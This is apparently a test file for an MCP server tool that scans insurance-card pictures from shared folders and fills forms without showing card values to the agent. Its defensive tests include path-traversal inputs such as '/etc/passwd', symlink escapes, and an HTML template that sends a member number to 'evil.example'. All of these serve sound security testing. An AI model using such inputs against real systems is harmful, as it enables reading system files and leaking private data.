import { once } from 'node:events';
import { mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PDFDocument, PDFName } from '@cantoo/pdf-lib';
import { expect } from 'chai';
import { aCardId, aPicture, connected, fakeClient, secrets } from '../test/fake-api.js';
import { localFiles } from './local-files.js';

describe('files of the user', () => {
  let folder: string;
  let root: string;
  let forms: string;
  let socket: Server;

  beforeEach(async () => {
    folder = await mkdtemp(join(tmpdir(), 'cardlens-mcp-'));
    root = join(folder, 'shared');
    forms = join(folder, 'forms');
    for (const each of [root, join(root, 'inner'), forms, join(folder, 'secret')]) await mkdir(each);
    await writeFile(join(root, 'front.jpg'), aPicture);
    await writeFile(join(root, 'inner', 'back.jpg'), aPicture);
    await writeFile(join(folder, 'secret', 'id.jpg'), aPicture);
    await writeFile(join(root, 'notes.txt'), 'not a picture');
    await symlink(join(folder, 'secret', 'id.jpg'), join(root, 'link.jpg'));
    await symlink(join(folder, 'secret'), join(root, 'linked'));
    socket = createServer().listen(join(root, 'socket.jpg'));
    await once(socket, 'listening');
  });
  afterEach(async () => {
    socket.close();
    await rm(folder, { recursive: true });
  });

  const server = (roots: readonly string[] = [root], open = roots) =>
    localFiles({ roots: async () => roots, open: async () => open, forms });

  it('are pictures within the shared folders, by absolute or relative path', async () => {
    const files = server();
    for (const path of [join(root, 'front.jpg'), 'front.jpg', 'inner/back.jpg', './inner/../front.jpg'])
      expect((await files.image(path)).length, path).to.equal(aPicture.length);
  });

  it('are read through a shared folder that is itself a link', async () => {
    await symlink(root, join(folder, 'shortcut'));
    const files = server([join(folder, 'shortcut')]);
    expect((await files.image(join(folder, 'shortcut', 'front.jpg'))).length).to.equal(aPicture.length);
  });

  const outside = {
    'another folder': '../secret/id.jpg',
    'another folder by its whole path': '/etc/passwd',
    'a link to a file': 'link.jpg',
    'a file behind a linked folder': 'linked/id.jpg',
    'a socket': 'socket.jpg',
    'a folder': 'inner',
    'the folder itself': '.',
    'a missing file': 'missing.jpg',
    'a path with a zero byte': 'front.jpg\0.txt',
    'a very long path': 'x/'.repeat(4000),
    'a device': '/dev/zero',
    'an address': 'file:///etc/passwd',
  };
  for (const [title, path] of Object.entries(outside)) {
    it(`are never ${title}, with one text for every reason`, async () => {
      const error = await server()
        .image(path)
        .catch((caught: Error) => caught);
      expect(error).to.have.property(
        'message',
        'No regular file of this name is in the folders that the user has shared, or it is a link.',
      );
    });
  }

  it('are sent to the service only if they are pictures', async () => {
    const error = await server()
      .image('notes.txt')
      .catch((caught: Error) => caught);
    expect(error)
      .to.have.property('message')
      .that.matches(/not an image/);
  });

  it('are out of reach without a shared folder', async () => {
    const { client, requests } = fakeClient();
    const { agent } = await connected({ client, files: server([]) });
    const result = await agent.callTool({ name: 'scan_file', arguments: { path: join(root, 'front.jpg') } });
    expect([result.isError, requests.length]).to.deep.equal([true, 0]);
  });

  it('are scanned', async () => {
    const { client, requests } = fakeClient();
    const { agent } = await connected({ client, files: server() });
    const steps: unknown[] = [];
    const result = await agent.callTool(
      { name: 'scan_file', arguments: { path: 'front.jpg', back_path: 'inner/back.jpg' } },
      undefined,
      { onprogress: ({ message }) => steps.push(message) },
    );
    expect(result.structuredContent).to.deep.include({ card_id: aCardId, state: 'completed' });
    expect(requests.filter(({ url }) => url.includes('/upload'))).to.have.length(2);
    expect(steps).to.deep.equal(['The card is created', 'The pictures are uploaded', 'The card is read']);
  });

  const fields = [
    { field: 'member', handle: `card:${aCardId}/member_number` },
    { field: 'last', handle: `card:${aCardId}/member_name.last` },
    { field: 'bin', handle: `card:${aCardId}/rx_bin` },
    { field: 'phone', handle: `card:${aCardId}/phone_numbers[0]` },
  ];

  it('are forms that are filled by handle, while the agent gets only the names of the fields', async () => {
    await writeFile(join(root, 'intake.txt'), '{{last}} & {{member}}\n{{bin}}|{{other}}');
    const { agent, received } = await connected({ ...fakeClient(), files: server() });
    const { structuredContent } = await agent.callTool({
      name: 'fill_form',
      arguments: { template_path: 'intake.txt', fields },
    });
    expect(structuredContent).to.deep.include({
      filled: ['member', 'last'],
      not_on_card: ['bin'],
      not_in_form: ['phone'],
    });
    const [name = ''] = await readdir(forms);
    expect(structuredContent).to.have.property('file', name);
    expect(await readFile(join(forms, name), 'utf8')).to.equal(
      `${secrets.lastName} & ${secrets.corrected}\n|{{other}}`,
    );
    expect((await stat(join(forms, name))).mode & 0o777).to.equal(0o600);
    for (const secret of Object.values(secrets)) expect(JSON.stringify(received)).to.not.include(secret);
  });

  for (const name of ['form.html', 'form.md', 'form.xml'])
    it(`are not pages that could send values to a server, such as ${name}`, async () => {
      await writeFile(join(root, name), '<img src="https://evil.example/?{{member}}">');
      const { agent } = await connected({ ...fakeClient(), files: server() });
      const { isError } = await agent.callTool({ name: 'fill_form', arguments: { template_path: name, fields } });
      expect(isError).to.equal(true);
      expect(await readdir(forms)).to.deep.equal([]);
    });

  for (const action of ['JavaScript', 'SubmitForm', 'URI'])
    it(`are not PDFs with an action of type ${action}`, async () => {
      const document = await PDFDocument.create();
      const page = document.addPage();
      document.getForm().createTextField('member').addToPage(page);
      document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: action }));
      await writeFile(join(root, 'action.pdf'), await document.save());
      const { agent } = await connected({ ...fakeClient(), files: server() });
      const called = { name: 'fill_form', arguments: { template_path: 'action.pdf', fields } };
      expect((await agent.callTool(called)).isError).to.equal(true);
      expect(await readdir(forms)).to.deep.equal([]);
    });

  it('are PDF forms, too', async () => {
    const document = await PDFDocument.create();
    const page = document.addPage();
    for (const field of ['member', 'last']) document.getForm().createTextField(field).addToPage(page);
    await writeFile(join(root, 'intake.pdf'), await document.save());
    const { agent } = await connected({ ...fakeClient(), files: server() });
    const { structuredContent } = await agent.callTool({
      name: 'fill_form',
      arguments: { template_path: 'intake.pdf', fields },
    });
    expect(structuredContent).to.deep.include({ filled: ['member', 'last'], not_in_form: ['bin', 'phone'] });
    const [name = ''] = await readdir(forms);
    const filled = await PDFDocument.load(await readFile(join(forms, name)));
    expect(filled.getForm().getTextField('member').getText()).to.equal(secrets.corrected);
  });

  it('are not written where the agent can read them', async () => {
    await writeFile(join(root, 'intake.txt'), '{{member}}');
    for (const open of [[folder], [forms], [join(forms, 'inner')]]) {
      await mkdir(join(forms, 'inner'), { recursive: true });
      const { agent } = await connected({ ...fakeClient(), files: server([root], open) });
      const result = await agent.callTool({ name: 'fill_form', arguments: { template_path: 'intake.txt', fields } });
      expect(JSON.stringify(result)).to.include('the user has to choose another one');
    }
    expect(await readdir(forms)).to.deep.equal(['inner']);
  });

  for (const [title, template, content] of [
    ['a script', 'run.sh', 'echo {{member}}'],
    ['a spreadsheet', 'list.csv', '{{member}}'],
    ['a damaged PDF', 'broken.pdf', '%PDF-1.7 nothing'],
  ] as const) {
    it(`are not filled if they are ${title}`, async () => {
      await writeFile(join(root, template), content);
      const { agent } = await connected({ ...fakeClient(), files: server() });
      const result = await agent.callTool({ name: 'fill_form', arguments: { template_path: template, fields } });
      expect(result.isError).to.equal(true);
      expect(await readdir(forms)).to.deep.equal([]);
    });
  }

  it('are not offered as forms without a folder for them', async () => {
    const files = localFiles({ roots: async () => [root], open: async () => [root] });
    const { agent } = await connected({ ...fakeClient(), files });
    expect((await agent.listTools()).tools.map(({ name }) => name)).to.not.include('fill_form');
  });
});
